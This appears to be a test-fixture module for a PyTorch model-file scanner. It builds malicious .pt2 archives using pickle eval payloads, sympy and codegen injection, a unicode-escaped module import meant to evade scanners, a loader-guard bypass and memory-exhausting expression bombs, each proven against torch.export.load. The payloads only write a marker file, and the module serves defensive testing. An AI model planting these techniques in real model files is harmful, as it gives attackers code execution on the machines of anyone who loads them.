"""Crafted .pt2 files, one builder per attack family. Each file carries a payload that writes ``marker``
(a file path) when a plain ``torch.export.load`` (and ``.module()``, and a first call) opens it; a few
(the bombs) hang or exhaust memory instead. Built from a real exported program by editing the
archive, the way an attacker would."""

from __future__ import annotations

import io
import json
import pickle
import zipfile
from pathlib import Path

import torch
from torch import nn


class _Payload:
    def __init__(self, code: str) -> None:
        self.code = code

    def __reduce__(self):
        return (eval, (self.code,))


def _write_marker(marker: Path, then: str) -> str:
    return f"__import__('pathlib').Path({str(marker)!r}).write_text('pwned') and {then}"


def base_program(path: Path) -> Path:
    m = nn.Sequential(nn.Linear(4, 3), nn.ReLU()).eval()
    torch.export.save(torch.export.export(m, (torch.randn(2, 4),)), str(path))
    return path


def _files(src: Path) -> tuple[str, dict[str, bytes]]:
    with zipfile.ZipFile(src) as zin:
        files = {i.filename: zin.read(i.filename) for i in zin.infolist()}
    return next(iter(files)).split("/", 1)[0], files


def _write(dst: Path, files: dict[str, bytes]) -> Path:
    with zipfile.ZipFile(dst, "w") as zout:
        for name, data in files.items():
            zout.writestr(name, data)
    return dst


def _rewrite(src: Path, dst: Path, edit) -> Path:
    root, files = _files(src)
    return _write(dst, edit(root, files))


def _torch_save(obj) -> bytes:
    buf = io.BytesIO()
    torch.save(obj, buf)
    return buf.getvalue()


def _edit_program(edit_program, also=None):
    def edit(root, files):
        name = f"{root}/models/model.json"
        program = json.loads(files[name])
        edit_program(program)
        files[name] = json.dumps(program).encode()
        if also:
            also(root, files)
        return files
    return edit


# --------------------------------------------------------------------------- pickles
def pickled_weight(src: Path, dst: Path, marker: Path) -> Path:
    def edit(root, files):
        cfg_name = f"{root}/data/weights/model_weights_config.json"
        cfg = json.loads(files[cfg_name])
        cfg["config"]["0.weight"]["use_pickle"] = True
        files[cfg_name] = json.dumps(cfg).encode()
        files[f"{root}/data/weights/weight_0"] = _torch_save(
            _Payload(_write_marker(marker, "__import__('torch').nn.Parameter(__import__('torch').zeros(3, 4))")))
        return files
    return _rewrite(src, dst, edit)


def pickled_inputs(src: Path, dst: Path, marker: Path) -> Path:
    """The stealthy one: the model loads and profiles normally afterwards."""
    def edit(root, files):
        files[f"{root}/data/sample_inputs/model.pt"] = _torch_save(
            _Payload(_write_marker(marker, "((__import__('torch').randn(2, 4),), {})")))
        return files
    return _rewrite(src, dst, edit)


def _pickled_constant(root: str, files: dict[str, bytes], fqn: str, path_name: str, payload: bytes) -> dict[str, bytes]:
    """A constant the config marks as pickled, stored under ``path_name``."""
    files[f"{root}/data/constants/model_constants_config.json"] = json.dumps(
        {"config": {fqn: {"path_name": path_name, "is_param": False, "use_pickle": True, "tensor_meta": None}}}).encode()
    files[f"{root}/data/constants/{path_name}"] = payload
    return files


def pickled_constant(src: Path, dst: Path, marker: Path) -> Path:
    payload = _torch_save(_Payload(_write_marker(marker, "__import__('torch').ones(3)")))
    return _rewrite(src, dst, lambda root, files: _pickled_constant(root, files, "table", "tensor_0", payload))


def opaque_constant(src: Path, dst: Path, marker: Path) -> Path:
    payload = pickle.dumps(_Payload(_write_marker(marker, "1")))
    return _rewrite(src, dst, lambda root, files: _pickled_constant(root, files, "evil", "opaque_obj_0", payload))


def script_object(src: Path, dst: Path, marker: Path) -> Path:
    """A TorchScript custom object constant and the graph input that takes it."""
    def change(program):
        gm = program["graph_module"]
        gm["signature"]["input_specs"].insert(0, {"custom_obj": {"arg": {"name": "obj", "class_fqn": "__torch__.Evil"},
                                                                 "custom_obj_name": "evil"}})
        gm["graph"]["inputs"].insert(0, {"as_custom_obj": {"name": "obj", "class_fqn": "__torch__.Evil"}})
        gm["graph"]["custom_obj_values"] = {"obj": {"name": "obj", "class_fqn": "__torch__.Evil"}}

    def also(root, files):
        _pickled_constant(root, files, "evil", "custom_obj_0", pickle.dumps(_Payload(_write_marker(marker, "1"))))
    return _rewrite(src, dst, _edit_program(change, also))


# --------------------------------------------------------------------------- code in the program
def guard_code(src: Path, dst: Path, marker: Path) -> Path:
    def change(program):
        program["guards_code"] = [_write_marker(marker, "True")]
    return _rewrite(src, dst, _edit_program(change))


def sympy_expr(src: Path, dst: Path, marker: Path) -> Path:
    def change(program):
        values = program["graph_module"]["graph"]["tensor_values"]
        first = next(iter(values.values()))
        first["sizes"][0] = {"as_expr": {"expr_str": _write_marker(marker, "2"), "hint": {"as_int": 2}}}
    return _rewrite(src, dst, _edit_program(change))


def legacy_sympy(src: Path, dst: Path, marker: Path) -> Path:
    """The pre-2.8 zip layout (``serialized_exported_program.json`` beside torch.save files) that an
    allowlist scanning only ``models/*.json`` never looked at, with the sympy payload that first
    switches a loader's guard off."""
    ep = torch.export.load(str(src))
    root, files = _files(src)
    program = json.loads(files[f"{root}/models/model.json"])
    values = program["graph_module"]["graph"]["tensor_values"]
    first = next(iter(values.values()))
    first["sizes"][0] = {"as_expr": {"expr_str": "(__import__('sys').__setattr__('_guard_off', 1), "
                                                 + _write_marker(marker, "2") + ")[1]", "hint": {"as_int": 2}}}
    from torch._export.serde.schema import SCHEMA_VERSION

    return _write(dst, {
        "serialized_exported_program.json": json.dumps(program).encode(),
        "serialized_state_dict.pt": _torch_save(ep.state_dict), "serialized_constants.pt": _torch_save(ep.constants),
        "serialized_example_inputs.pt": _torch_save(ep.example_inputs),
        "version": ".".join(map(str, SCHEMA_VERSION)).encode()})


def legacy_pickled_weights(src: Path, dst: Path, marker: Path) -> Path:
    """The legacy layout whose state dict is a pickle with a payload."""
    ep = torch.export.load(str(src))
    root, files = _files(src)
    from torch._export.serde.schema import SCHEMA_VERSION

    state = dict(ep.state_dict)
    state["evil"] = _Payload(_write_marker(marker, "1"))
    return _write(dst, {
        "serialized_exported_program.json": files[f"{root}/models/model.json"],
        "serialized_state_dict.pt": _torch_save(state), "serialized_constants.pt": _torch_save(ep.constants),
        "serialized_example_inputs.pt": _torch_save(ep.example_inputs),
        "version": ".".join(map(str, SCHEMA_VERSION)).encode()})


def codegen_name(src: Path, dst: Path, marker: Path) -> Path:
    """A parameter name that breaks out of the ``getattr(self, "<name>")`` torch writes into the
    generated ``forward()``: it runs at the model's first call, after any load-time guard has ended."""
    code = list(f"open({str(marker)!r}, 'w').write('pwned')".encode())
    # torch writes getattr(getattr(self, "0"), "<rest>"): the condition runs first; no '.' in it (torch splits on dots)
    evil = f'0.w") if exec(str(bytes({code}), "utf8")) else (0, "'

    def change(program):
        for spec in program["graph_module"]["signature"]["input_specs"]:
            if "parameter" in spec and spec["parameter"]["parameter_name"] == "0.weight":
                spec["parameter"]["parameter_name"] = evil

    def also(root, files):
        cfg_name = f"{root}/data/weights/model_weights_config.json"
        cfg = json.loads(files[cfg_name])
        cfg["config"][evil] = cfg["config"].pop("0.weight")
        files[cfg_name] = json.dumps(cfg).encode()
    return _rewrite(src, dst, _edit_program(change, also))


def enum_escape(src: Path, dst: Path, marker: Path, module: str = "layerscope_planted") -> Path:
    """``__enum__`` written as ``\\u005f\\u005fenum\\u005f\\u005f`` inside a pytree spec: the raw bytes never
    say ``__enum__``, and torch's spec loader imports the module the file names (``module``: planted
    beside the file, or any installed one)."""
    def edit(root, files):
        name = f"{root}/models/model.json"
        program = json.loads(files[name])
        sig = program["graph_module"]["module_call_graph"][0]["signature"]
        spec = json.loads(sig["in_spec"])
        spec[1]["children_spec"][1]["context"] = "[" + json.dumps({"__enum__": True, "fqn": f"{module}:E", "name": "A"}) + "]"
        spec[1]["children_spec"][1]["children_spec"] = [{"type": None, "context": None, "children_spec": []}]
        sig["in_spec"] = json.dumps(spec)
        text = json.dumps(program).replace("__enum__", "\\\\u005f\\\\u005fenum\\\\u005f\\\\u005f")
        assert b"__enum__" not in text.encode()
        files[name] = text.encode()
        return files
    return _rewrite(src, dst, edit)


def plant_module(folder: Path, marker: Path, module: str = "layerscope_planted") -> Path:
    """The module ``enum_escape`` names, as a colleague's folder might hold it."""
    path = folder / f"{module}.py"
    path.write_text(f"import enum, pathlib\npathlib.Path({str(marker)!r}).write_text('pwned')\n"
                    f"class E(enum.Enum):\n    A = 1\n")
    return path


def pow_bomb(src: Path, dst: Path, marker: Path) -> Path:
    """Nested powers that pass an arithmetic grammar and make sympy compute a number of billions of
    digits (hangs at gigabytes and growing)."""
    def change(program):
        values = program["graph_module"]["graph"]["tensor_values"]
        first = next(iter(values.values()))
        first["sizes"][0] = {"as_expr": {"expr_str": "((((2**64)**64)**64)**64)**64", "hint": {"as_int": 2}}}
    return _rewrite(src, dst, _edit_program(change))


def pow_call_bomb(src: Path, dst: Path, marker: Path) -> Path:
    def change(program):
        program["range_constraints"] = {"Pow(2, 10**29)": {"min_val": 0, "max_val": 4}}
    return _rewrite(src, dst, _edit_program(change))


def os_target(src: Path, dst: Path, marker: Path) -> Path:
    def change(program):
        program["graph_module"]["graph"]["nodes"][0]["target"] = "torch.os.system"
    return _rewrite(src, dst, _edit_program(change))


def unknown_namespace(src: Path, dst: Path, marker: Path) -> Path:
    """An operator of a namespace whose library would have to be imported (and could be anything)."""
    def change(program):
        program["graph_module"]["graph"]["nodes"][0]["target"] = "torch.ops.evil_lib.run.default"
    return _rewrite(src, dst, _edit_program(change))


def native_library(src: Path, dst: Path, marker: Path) -> Path:
    def edit(root, files):
        files[f"{root}/data/aotinductor/model/model.so"] = b"\x7fELF not really"
        return files
    return _rewrite(src, dst, edit)


def control_in_stack_trace(src: Path, dst: Path, marker: Path) -> Path:
    """A carriage return in a stack trace: Python's tokenizer ends a comment there, so torch's verbose
    code printer would turn the rest of the line into code."""
    def change(program):
        program["graph_module"]["graph"]["nodes"][0]["metadata"]["stack_trace"] = (
            'File "x.py", line 1, in forward\n    y = 1\r' + _write_marker(marker, "1"))
    return _rewrite(src, dst, _edit_program(change))


def planted_class(src: Path, dst: Path, marker: Path, module: str = "layerscope_planted") -> Path:
    """A module stack naming a class of a module planted beside the file: a loader that resolves the class
    by importing its module runs the planted code (the file itself is otherwise well-formed)."""
    def change(program):
        for node in program["graph_module"]["graph"]["nodes"]:
            stack = node["metadata"].get("nn_module_stack")
            if stack:
                node["metadata"]["nn_module_stack"] = stack.replace("torch.nn.modules.linear.Linear", f"{module}.Evil")
    return _rewrite(src, dst, _edit_program(change))


VARIANTS = {f.__name__: f for f in (
    pickled_weight, pickled_inputs, pickled_constant, opaque_constant, script_object, guard_code, sympy_expr,
    legacy_sympy, legacy_pickled_weights, codegen_name, enum_escape, pow_bomb, pow_call_bomb, os_target,
    unknown_namespace, native_library, control_in_stack_trace, planted_class)}
# what plain torch.export.load does with each: the payload runs (the tests prove it), or it hangs (not run)
RUNS_PAYLOAD = ("pickled_weight", "pickled_inputs", "pickled_constant", "opaque_constant", "sympy_expr", "legacy_sympy",
                "legacy_pickled_weights", "codegen_name", "enum_escape")
HANGS = ("pow_bomb", "pow_call_bomb")
